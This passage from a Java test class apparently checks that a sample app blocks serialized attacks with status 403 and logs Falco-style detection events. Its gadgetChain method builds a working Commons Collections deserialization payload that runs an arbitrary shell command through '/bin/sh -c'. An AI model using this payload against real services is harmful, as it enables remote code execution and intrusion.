    @SuppressWarnings({"unchecked", "rawtypes"})
    static byte[] gadgetChain(String command) throws Exception {
        Transformer[] real = {
            new ConstantTransformer(Runtime.class),
            new InvokerTransformer(
                    "getMethod", new Class[] {String.class, Class[].class}, new Object[] {"getRuntime", new Class[0]}),
            new InvokerTransformer(
                    "invoke", new Class[] {Object.class, Object[].class}, new Object[] {null, new Object[0]}),
            new InvokerTransformer(
                    "exec", new Class[] {String[].class}, new Object[] {new String[] {"/bin/sh", "-c", command}}),
            new ConstantTransformer(1)
        };
        ChainedTransformer chain = new ChainedTransformer(new Transformer[] {new ConstantTransformer(1)});
        Map inner = new HashMap();
        Map lazy = LazyMap.decorate(inner, chain);
        TiedMapEntry entry = new TiedMapEntry(lazy, "key");
        HashSet set = new HashSet(1);
        set.add(entry);
        inner.remove("key");
        Field transformers = ChainedTransformer.class.getDeclaredField("iTransformers");
        transformers.setAccessible(true);
        transformers.set(chain, real); // armed only now, so that building it here runs nothing
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(set);
        }
        return bytes.toByteArray();
    }

    private static byte[] serialized(Object o) throws Exception {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(o);
        }
        return bytes.toByteArray();
    }

    private HttpResponse<String> lastPost;

    private int post(SampleApp app, String path, byte[] body) throws Exception {
        lastPost = SampleApp.HTTP.send(
                HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + app.port() + path))
                        .POST(HttpRequest.BodyPublishers.ofByteArray(body))
                        .build(),
                HttpResponse.BodyHandlers.ofString());
        return lastPost.statusCode();
    }

    private String body(int status) {
        assertThat(status).isEqualTo(403);
        return lastPost.body();
    }

    private static HttpResponse<String> getResponse(SampleApp app, String path) throws Exception {
        return SampleApp.HTTP.send(
                HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + app.port() + path))
                        .build(),
                HttpResponse.BodyHandlers.ofString());
    }

    private static List<String> eventLines(SampleApp app) throws Exception {
        return app.log().lines().filter(l -> l.startsWith("{\"time\"")).toList();
    }

    private static List<JsonNode> events(SampleApp app) throws Exception {
        List<JsonNode> out = new ArrayList<>();
        for (String line : eventLines(app)) {
            out.add(FalcoShape.check(JSON.readTree(line)));
        }
        return out;
    }

    /** The path once it exists, or after 15 s (the caller's assertion then fails with the path in its message). */
    private static Path awaitFile(Path path) throws InterruptedException {
        long deadline = System.nanoTime() + Duration.ofSeconds(15).toNanos();
        while (!Files.exists(path) && System.nanoTime() < deadline) {
            Thread.sleep(50);
        }
        return path;
    }

    private static JsonNode awaitEvent(SampleApp app, String rule) throws Exception {
        long deadline = System.nanoTime() + Duration.ofSeconds(15).toNanos();
        while (System.nanoTime() < deadline) {
            for (JsonNode e : events(app)) {
                if (e.get("rule").asText().equals(rule)) {
                    return e;
                }
            }
            Thread.sleep(100);
        }
        throw new AssertionError("no " + rule + " event; log:\n" + app.log());
    }

    private static Map<String, String> fields(JsonNode e) {
        Map<String, String> out = new HashMap<>();
        e.get("output_fields")
                .properties()
                .forEach(f -> out.put(f.getKey(), f.getValue().asText()));
        return out;
    }

    private static List<String> tags(JsonNode e) {
        List<String> out = new ArrayList<>();
        e.get("tags").forEach(t -> out.add(t.asText()));
        return out;
    }
}
